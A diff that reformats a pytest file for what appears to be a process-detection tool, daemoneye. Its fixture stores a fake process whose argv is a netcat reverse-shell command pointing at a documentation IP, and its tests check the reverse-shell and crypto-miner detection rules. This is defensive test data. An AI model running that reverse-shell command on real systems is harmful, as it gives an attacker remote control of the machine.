@@ -15,7 +15,7 @@ from daemoneye import cli
 from daemoneye.models import ProcessRecord, ScanDelta, ScanStats
 from daemoneye.store import Store
 
-BAD_FILE = textwrap.dedent('''
+BAD_FILE = textwrap.dedent("""
     [[rule]]
     id = "fine"
     name = "Fine"
@@ -27,7 +27,7 @@ BAD_FILE = textwrap.dedent('''
     name = "Typo"
     severity = "hihg"
     query = "SELECT pid, start_time FROM processes"
-''')
+""")
 
 
 @pytest.fixture
@@ -56,12 +56,32 @@ def db(home: Path) -> Path:
     path = home / "state" / "daemoneye" / "daemoneye.db"
 
     def record(pid: int, name: str, argv: tuple[str, ...]) -> ProcessRecord:
-        return ProcessRecord(pid, 1, 5.0, name, f"/usr/bin/{name}", argv, "/", 0, "root", 0, "S",
-                             1, 1, 0.0, None, False, 5.0, 5.0)
+        return ProcessRecord(
+            pid,
+            1,
+            5.0,
+            name,
+            f"/usr/bin/{name}",
+            argv,
+            "/",
+            0,
+            "root",
+            0,
+            "S",
+            1,
+            1,
+            0.0,
+            None,
+            False,
+            5.0,
+            5.0,
+        )
 
     with Store.open(path) as store:
-        added = (record(10, "nc", ("nc", "203.0.113.7", "4444", "-e", "/bin/sh")),
-                 record(11, "sleep", ("sleep", "9")))
+        added = (
+            record(10, "nc", ("nc", "203.0.113.7", "4444", "-e", "/bin/sh")),
+            record(11, "sleep", ("sleep", "9")),
+        )
         store.apply(ScanDelta(6.0, added, (), (), (), (), ScanStats(0, 0, 0, 0, 0, 0, 0)))
     return path
 
@@ -112,8 +132,10 @@ def test_list_shows_the_pack_overrides_and_problems(
     code, out, err = run(capsys, "rules", "list")
     assert code == 0
     lines = {line.split()[0]: line for line in out.splitlines()[1:]}
-    assert "reverse-shell-netcat" in lines and "built-in/command_and_control.toml" in lines[
-        "reverse-shell-netcat"]
+    assert (
+        "reverse-shell-netcat" in lines
+        and "built-in/command_and_control.toml" in lines["reverse-shell-netcat"]
+    )
     assert "overrides built-in/impact.toml:" in lines["crypto-miner"]
     assert "local.toml:2" in lines["crypto-miner"]
     assert f"{user_rules / 'local.toml'}:11: rule 'typo': severity 'hihg'" in err
